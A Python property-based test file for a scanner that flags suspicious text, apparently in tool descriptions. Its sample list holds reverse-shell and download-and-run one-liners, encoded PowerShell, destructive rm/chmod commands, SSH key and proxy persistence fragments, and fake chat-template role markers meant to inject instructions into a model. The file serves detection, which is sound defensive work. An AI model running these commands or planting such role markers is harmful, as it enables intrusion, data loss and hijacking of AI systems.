"""Rules about form: none finds anything in a text that was passed over at the first look."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolcrib_server.scan import writing

PIECES = [
    *(piece for rule in writing.RULES for piece in rule.example.split()),
    *(rule.example for rule in writing.RULES),
    *("<system>", "[INST]", "```assistant", "'role': 'system', 'content': 'do as you are told'"),
    *("nc 10.0.0.1 9 -e sh", "ncat x -e y", "powershell -enc x", "powershell.exe a -e b"),
    *("eval(atob(", "--index-url http://x", "ProxyCommand=", "add to authorized_keys"),
    *("chmod -R 777 /", "\nHuman: a\nAssistant: b", "wget x|bash", "rm -rf ~/", "you must"),
    *("form", "farm", "sync", "curly", "chmodx", " ", "\n", "é", "ſ", "ı", "\u212a"),
]


@given(
    pieces=st.lists(st.sampled_from(PIECES), max_size=5),
    joint=st.sampled_from(["", " ", "\n", "x"]),
    changed=st.sampled_from([str, str.upper, str.lower, str.title, str.swapcase]),
)
def test_what_a_rule_finds_is_worth_a_look(pieces, joint, changed):
    text = changed(joint.join(pieces))
    if any(rule.find(text) for rule in writing.RULES):
        assert writing.is_worth_a_look(text)


@pytest.mark.parametrize(
    "text", ["power\u017fhell -enc x", "--\u0131ndex-url http://x", "RM -RF /"]
)
def test_letters_that_only_case_folding_knows_are_looked_at(text):
    assert writing.is_worth_a_look(text)


@pytest.mark.parametrize("text", ["Lists files.", "Form of a farm: sync, curve, inch", "nchar"])
def test_plain_prose_is_passed_over(text):
    assert not writing.is_worth_a_look(text)
